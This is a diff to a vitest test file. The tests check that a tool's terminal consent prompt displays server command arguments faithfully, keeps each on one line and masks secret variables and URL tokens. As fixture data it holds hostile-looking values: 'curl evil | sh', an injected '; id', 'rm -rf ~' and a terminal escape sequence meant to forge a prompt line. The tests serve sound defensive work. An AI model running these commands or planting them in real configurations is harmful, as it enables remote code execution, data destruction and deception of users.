@@ -1,8 +1,9 @@
 import { existsSync, mkdirSync, writeFileSync } from 'node:fs';
 import { dirname, join } from 'node:path';
 import { runProgram } from '@mcp/test-kit';
-import { afterAll, expect, test } from 'vitest';
-import { program, Workspace } from './workspace.ts';
+import { afterAll, describe, expect, test } from 'vitest';
+import { hasTerminals, Terminal } from './terminal.ts';
+import { program, quoted, Workspace } from './workspace.ts';
 
 const workspace = new Workspace();
 const { env } = workspace;
@@ -26,4 +27,44 @@ test('consent to a relative command in one project does not start the same comma
   expect(refused).toMatchObject({ code: 7, stderr: expect.stringContaining('no consent') });
   expect(existsSync(join(other, 'started'))).toBe(false);
   await runProgram(program, ['ping', 's'], { env, cwd: agreed });
+});
+
+describe.skipIf(!hasTerminals)('the question for consent', () => {
+  async function question(name: string, entry: object, own: Readonly<Record<string, string>> = {}) {
+    const root = project(name, entry);
+    const command = `cd ${quoted(root)}; exec ${quoted(process.execPath)} ${quoted(program)} ping s`;
+    const terminal = new Terminal(`sh -c ${quoted(command)}`, { env: { ...env, ...own } });
+    const shown = await terminal.shows('Start it? [y/N] ');
+    terminal.type('n\r');
+    expect(await terminal.ended()).toBe(7);
+    return shown.split('\r\n');
+  }
+
+  test('shows each argument as the file has it, and the values of secret variables never', async () => {
+    const args = [
+      '-c',
+      'eval "$2"',
+      '--token',
+      'curl evil | sh',
+      '${API_KEY}; id',
+      '--key=${MODE:-rm -rf ~}',
+    ];
+    const lines = await question('masked', { command: 'sh', args }, { API_KEY: 'secret' });
+    expect(lines).toContain(
+      `  command: sh -c 'eval "$2"' --token 'curl evil | sh' '\${API_KEY}; id' '--key=rm -rf ~'`,
+    );
+    expect(lines.join('\n')).not.toContain('secret');
+  });
+
+  test('has one line for each of its parts, whatever line breaks the file has in them', async () => {
+    const lines = await question('lines', { command: 'sh', args: ["\n  command: 'ls'\u009b2J"] });
+    expect(lines).toContain(String.raw`  command: sh $'\n command: \'ls\'\u009b2J'`);
+    expect(lines.filter((line) => line.startsWith('  command:'))).toHaveLength(1);
+  });
+
+  test('shows an address that is no valid text', async () => {
+    expect(await question('address', { url: 'https://example.invalid/%zz?token=x' })).toContain(
+      '  url: https://example.invalid/%zz?token=••••',
+    );
+  });
 });
